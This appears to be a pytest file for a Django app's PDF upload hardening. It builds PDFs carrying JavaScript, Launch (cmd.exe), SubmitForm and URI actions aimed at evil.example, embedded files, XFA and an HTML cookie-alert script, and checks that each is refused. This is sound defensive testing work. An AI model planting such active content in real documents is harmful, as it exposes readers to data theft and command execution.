"""Active content in uploaded PDFs is found by parsing, wherever it sits: each forbidden construct is
built with pikepdf and saved with its objects packed in compressed object streams, where a scan of
the raw bytes sees nothing. Refused with a message naming it, nothing stored; a plain PDF passes; the
public verify page reads an upload without storing it and lets an embedded file through."""
import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from billing.models import PaymentProof
from demo.road import demo_lines
from hardening.tests.test_hostile_input import files_under_media, messages_of, upload


def built(mutate=None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if mutate is not None:
        mutate(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def javascript_open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def javascript_name_tree(pdf):
    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script)])))


def uri_open_action(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://evil.example/"))


def page_additional_action(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://evil.example/")))


def annotation(pdf, **entries):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 50, 50]), **entries))
    pdf.pages[0].obj.Annots = Array([annot])
    return annot


def launch_link(pdf):
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def submit_form(pdf):
    widget = annotation(pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("kirim"),
                        A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/collect")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def import_data(pdf):
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("data.fdf")))


def rich_media(pdf):
    annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def embedded_file(pdf):
    pdf.attachments["data.txt"] = pikepdf.AttachedFileSpec(pdf, b"hidden payload", mime_type="text/plain")


def file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"hidden payload", filename="data.txt")
    annotation(pdf, Subtype=Name.FileAttachment, FS=spec.obj)


def xfa_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='x'/>"))


HTML_AS_PDF = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"

HOSTILE = [
    ("javascript-open-action", built(javascript_open_action), "skrip (JavaScript)"),
    ("javascript-name-tree", built(javascript_name_tree), "skrip (JavaScript)"),
    ("uri-open-action", built(uri_open_action), "OpenAction"),
    ("page-additional-action", built(page_additional_action), "(AA)"),
    ("launch", built(launch_link), "aksi Launch"),
    ("submit-form", built(submit_form), "aksi SubmitForm"),
    ("import-data", built(import_data), "aksi ImportData"),
    ("rich-media", built(rich_media), "RichMedia"),
    ("embedded-file", built(embedded_file), "berkas tersemat"),
    ("file-attachment-annotation", built(file_attachment_annotation), "berkas tersemat"),
    ("xfa", built(xfa_form), "formulir XFA"),
    ("html-posing-as-pdf", HTML_AS_PDF, "bukan PDF yang sah"),
]


def test_the_script_is_out_of_sight_of_a_byte_scan():
    content = built(javascript_open_action)
    assert b"/ObjStm" in content and b"JavaScript" not in content and b"/JS" not in content


@pytest.fixture
def awaiting_payment(users, order_at, login):
    order = order_at("AWAITING_PAYMENT")
    return order, login(users["pelanggan"])


@pytest.mark.parametrize("content, expected", [(c, e) for _n, c, e in HOSTILE], ids=[n for n, _c, _e in HOSTILE])
def test_a_pdf_with_active_content_is_refused_with_its_name_and_nothing_is_stored(awaiting_payment, content,
                                                                                    expected):
    order, client = awaiting_payment
    before = files_under_media()

    response = upload(client, order, "bukti.pdf", content)

    assert response.status_code == 200
    assert expected in messages_of(response)
    assert not PaymentProof.objects.filter(order=order).exists()
    assert files_under_media() == before
    order.refresh_from_db()
    assert order.state == "AWAITING_PAYMENT"


def test_a_plain_pdf_with_a_go_to_and_a_web_link_is_accepted(awaiting_payment):
    order, client = awaiting_payment

    def go_to_and_link(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://bank.example/receipt")))

    response = upload(client, order, "bukti.pdf", built(go_to_and_link))

    assert "Bukti bayar diunggah" in messages_of(response)
    assert PaymentProof.objects.filter(order=order).exists()


def test_the_verify_page_reads_without_storing_refuses_scripts_and_lets_an_embedded_file_through(order_at, client):
    report = order_at("SIGNED", lines=demo_lines(count_mass=1, count_temp=0)).reports.first()
    url = reverse("certificates:verify", args=[report.token])
    before = files_under_media()

    def verify(content):
        return client.post(url, {"pdf": SimpleUploadedFile("E-LHU.pdf", content, content_type="application/pdf")})

    scripted = verify(built(javascript_open_action))
    assert "skrip (JavaScript)" in messages_of(scripted)
    assert "data-verdict" not in scripted.content.decode()  # refused before any comparison

    html = verify(HTML_AS_PDF)  # nothing is run or kept; the answer is that it is no readable PDF
    assert 'data-verdict="unreadable"' in html.content.decode()

    with_attachment = verify(built(embedded_file))
    assert messages_of(with_attachment) == ""
    # compared with the report as issued (a PDF without a signature), not refused
    assert 'data-verdict="unsigned"' in with_attachment.content.decode()
    assert files_under_media() == before


@pytest.mark.parametrize("content, expected", [(c, e) for _n, c, e in HOSTILE], ids=[n for n, _c, _e in HOSTILE])
def test_a_raw_data_pdf_with_active_content_is_refused_too(content, expected):
    from django.core.exceptions import ValidationError

    from results.attachments import check_raw_file

    with pytest.raises(ValidationError) as refused:
        check_raw_file(SimpleUploadedFile("data-mentah.pdf", content, "application/pdf"))
    assert expected in " ".join(refused.value.messages)


def test_a_pdf_too_complex_to_walk_is_refused(monkeypatch):
    """The walk is bounded: a file packing more objects than a real document would is refused rather
    than walked for minutes (the limit is lowered here to keep the test small)."""
    from django.core.exceptions import ValidationError

    from core import pdfcheck

    monkeypatch.setattr(pdfcheck, "MAX_OBJECTS", 20)
    with pytest.raises(ValidationError) as refused:
        pdfcheck.check_pdf(built(lambda pdf: [pdf.add_blank_page() for _ in range(30)]))
    assert "terlalu rumit" in " ".join(refused.value.messages)
    pdfcheck.check_pdf(built())  # a one-page file is well within
